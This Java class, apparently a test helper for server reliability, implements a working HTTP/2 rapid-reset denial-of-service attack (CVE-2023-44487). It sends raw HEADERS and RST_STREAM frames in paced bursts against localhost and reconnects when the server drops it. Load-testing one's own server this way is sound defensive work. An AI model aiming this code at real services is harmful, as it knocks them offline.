package dev.streamfold.reliability;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The HTTP/2 rapid-reset attack (CVE-2023-44487) as raw frames from 127.0.0.2: after the
 * connection preface, HEADERS opening an OTLP export call and an immediate RST_STREAM (CANCEL),
 * again and again on fresh stream ids; when the server closes the connection, reconnect. Paced
 * by a scheduler at {@code burst} streams per 10 ms so the test machine stays usable. One thread
 * per instance.
 */
final class RapidReset implements AutoCloseable {
  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final String PATH = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";

  private final int port;
  private final int burst;
  private final ScheduledExecutorService pace;
  /** The current connection and its next stream id; touched only by the pacing thread. */
  private Socket socket;
  private int stream;
  final AtomicLong resets = new AtomicLong();
  final AtomicLong connections = new AtomicLong();

  RapidReset(int port, int burst, String name) {
    this.port = port;
    this.burst = burst;
    this.pace = Executors.newSingleThreadScheduledExecutor(r -> {
      Thread t = new Thread(r, name);
      t.setDaemon(true);
      return t;
    });
    pace.scheduleWithFixedDelay(this::burst, 0, 10, TimeUnit.MILLISECONDS);
  }

  /** One burst on the current connection; a closed connection is replaced at the next tick. */
  private void burst() {
    try {
      if (socket == null) {
        Socket s = new Socket();
        socket = s;
        s.bind(new InetSocketAddress(Attacker.FROM, 0));
        s.connect(new InetSocketAddress("127.0.0.1", port), 5_000);
        connections.incrementAndGet();
        s.getOutputStream().write(PREFACE);
        s.getOutputStream().write(frame(4, 0, 0, new byte[0])); // empty SETTINGS
        stream = 1;
      }
      ByteArrayOutputStream batch = new ByteArrayOutputStream();
      for (int i = 0; i < burst; i++) {
        batch.write(frame(1, 0x4, stream, headers())); // HEADERS, END_HEADERS
        batch.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
        stream += 2;
      }
      OutputStream out = socket.getOutputStream();
      out.write(batch.toByteArray());
      out.flush();
      resets.addAndGet(burst);
    } catch (IOException e) {
      // closed by the server: reconnect at the next tick, as an attacker would
      closeSocket();
    }
  }

  private void closeSocket() {
    Socket s = socket;
    socket = null;
    if (s != null) {
      try {
        s.close();
      } catch (IOException ignored) {
        // already gone
      }
    }
  }

  private static byte[] headers() {
    ByteArrayOutputStream h = new ByteArrayOutputStream();
    h.write(0x83); // :method POST (static index 3)
    h.write(0x86); // :scheme http (static index 6)
    literal(h, 4, PATH); // :path
    literal(h, 1, "x"); // :authority
    literal(h, 31, "application/grpc"); // content-type
    h.write(0x00); // te: trailers, literal with a new name
    string(h, "te");
    string(h, "trailers");
    return h.toByteArray();
  }

  /** Literal header field without indexing, indexed name (RFC 7541 6.2.2; index < 15). */
  private static void literal(ByteArrayOutputStream h, int nameIndex, String value) {
    h.write(nameIndex);
    string(h, value);
  }

  private static void string(ByteArrayOutputStream h, String s) {
    byte[] b = s.getBytes(StandardCharsets.US_ASCII);
    h.write(b.length); // < 127, no Huffman
    h.writeBytes(b);
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    byte[] f = new byte[9 + payload.length];
    f[0] = (byte) (payload.length >>> 16);
    f[1] = (byte) (payload.length >>> 8);
    f[2] = (byte) payload.length;
    f[3] = (byte) type;
    f[4] = (byte) flags;
    f[5] = (byte) (stream >>> 24);
    f[6] = (byte) (stream >>> 16);
    f[7] = (byte) (stream >>> 8);
    f[8] = (byte) stream;
    System.arraycopy(payload, 0, f, 9, payload.length);
    return f;
  }

  @Override
  public void close() throws InterruptedException {
    pace.shutdown();
    if (pace.awaitTermination(10, TimeUnit.SECONDS)) {
      closeSocket(); // the pacing thread is done with it
    }
  }
}
